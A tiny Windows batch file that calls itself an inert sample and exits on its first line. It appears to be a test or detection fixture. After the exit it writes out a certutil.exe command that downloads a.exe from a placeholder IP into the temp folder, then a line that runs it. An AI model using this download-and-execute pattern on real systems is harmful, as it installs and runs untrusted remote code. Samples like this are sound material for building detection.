exit /b
rem inert sample
certutil.exe -urlcache -split -f http://192.0.2.50/a.exe %TEMP%\a.exe
start "" %TEMP%\a.exe
